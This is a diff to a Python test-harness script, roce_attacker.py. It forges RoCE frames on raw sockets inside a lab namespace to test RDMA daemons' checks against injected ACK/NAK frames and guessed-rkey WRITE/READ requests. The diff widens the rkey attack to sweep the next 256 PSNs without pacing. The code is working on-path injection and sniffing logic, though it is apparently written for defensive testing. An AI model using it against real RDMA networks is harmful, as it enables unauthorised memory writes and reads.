@@ -4,8 +4,8 @@
 
 Runs in the namespace that joins the two daemons' veths (the segment), so it can send on either
 link and, for the on-path phases, read what passes. Frames are packed here with struct and
-their ICRC computed with zlib.crc32 over the masked fields (IBTA Annex A17.3.3); the first frame
-of a run is checked against scapy.contrib.roce's ICRC, so a wrong ICRC cannot pass unnoticed
+their ICRC computed with zlib.crc32 over the masked fields (IBTA Annex A17.3.3); a frame of each
+shape is checked against scapy.contrib.roce's ICRC first, so a wrong ICRC cannot pass unnoticed
 (a frame with a bad ICRC would be dropped as a parse error, not by the checks under test).
 
 Phases (one per run, JSON counts of what was sent on stdout):
@@ -21,7 +21,7 @@ Phases (one per run, JSON counts of what was sent on stdout):
   responses an on-path attacker sends ACK / NAK / RNR NAK to the requester's live QPN with
             PSNs outside its window: half ahead (bad_response), half long past (duplicate).
   rkey      an on-path attacker watches the requester's frames, waits for a quiet gap, and
-            sends a WRITE then a READ at the responder's expected PSN with guessed rkeys.
+            sends WRITEs and READs with guessed rkeys at the responder's next 256 PSNs.
 
 Usage: roce_attacker.py PHASE --to-a IFACE --to-b IFACE --mac-a M --mac-b M --ip-a IP --ip-b IP
        --qpns FILE [--count N] [--seed S] [--self-ip IP]
@@ -103,11 +103,12 @@ class Link:
         self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
         self.s.bind((iface, 0))
         self.sent = 0
+        self.pace = True
 
     def send(self, f):
         self.s.send(f)
         self.sent += 1
-        if self.sent % 32 == 0:  # bursts of 32: the daemon's af_packet ring never overflows
+        if self.pace and self.sent % 32 == 0:  # bursts of 32: the daemon's af_packet ring never overflows
             time.sleep(0.004)
 
 
@@ -150,13 +151,13 @@ def main():
     sides = {"a": (to_a, o.mac_b, o.ip_b, o.mac_a, o.ip_a, qa),
              "b": (to_b, o.mac_a, o.ip_a, o.mac_b, o.ip_b, qb)}
     sent = {"a": {}, "b": {}}
-    checked = False
+    # Our ICRC against scapy's, before anything is sent (importing scapy takes a while: not
+    # inside the on-path phases' quiet gap).
+    for opc, ext, pay in ((OP_WRITE_ONLY, reth(1, 2, 64), b"x" * 64), (OP_ACK, aeth(0x1F, 1), b""),
+                          (OP_CNP, b"\0" * 16, b"")):
+        check_icrc_with_scapy(frame(o.mac_a, o.mac_b, o.ip_a, o.ip_b, opc, qb, 5, ext, pay))
 
     def emit(side, kind, f):
-        nonlocal checked
-        if not checked:
-            check_icrc_with_scapy(f)
-            checked = True
         sides[side][0].send(f)
         sent[side][kind] = sent[side].get(kind, 0) + 1
 
@@ -177,7 +178,7 @@ def main():
                                         becn=True, ackreq=False))
     elif o.phase in ("responses", "rkey"):
         # On path: read the requester's (A's) frames on the segment for the responder's next
-        # expected PSN, then act in a quiet gap (the victim pauses 20 ms between rounds).
+        # expected PSN, then act in a quiet gap (the victim pauses 50 ms between rounds).
         link, smac, sip, dmac, dip, _ = sides["b"]
         sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
         sniff.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
@@ -215,11 +216,16 @@ def main():
                 emit("a", "ahead" if ahead else "past",
                      frame(smac_a, dmac_a, sip_a, dip_a, OP_ACK, qa, psn, aeth(syn, random.getrandbits(24))))
         else:
-            emit("b", "write_at_epsn", frame(smac, dmac, sip, dip, OP_WRITE_ONLY, qb, nxt,
-                                             reth(random.getrandbits(64), random.getrandbits(32), 64),
-                                             b"\xee" * 64))
-            emit("b", "read_at_epsn", frame(smac, dmac, sip, dip, OP_READ_REQ, qb, nxt,
-                                            reth(random.getrandbits(64), random.getrandbits(32), 64)))
+            # The victim may have sent a few more requests since the gap: sweep the next 256
+            # PSNs in order, so one of them is likely the expected PSN when it arrives (the ones
+            # below it are duplicates, the ones above sequence errors or, once the QP is in
+            # ERR, dropped).
+            link.pace = False  # all at once, inside the gap
+            for k in range(256):
+                kind, opc = ("write", OP_WRITE_ONLY) if k % 2 == 0 else ("read", OP_READ_REQ)
+                emit("b", kind, frame(smac, dmac, sip, dip, opc, qb, (nxt + k) & 0xFFFFFF,
+                                      reth(random.getrandbits(64), random.getrandbits(32), 64),
+                                      b"\xee" * 64 if opc == OP_WRITE_ONLY else b""))
         sent["expected_psn"] = nxt
     json.dump(sent, sys.stdout)
     print()
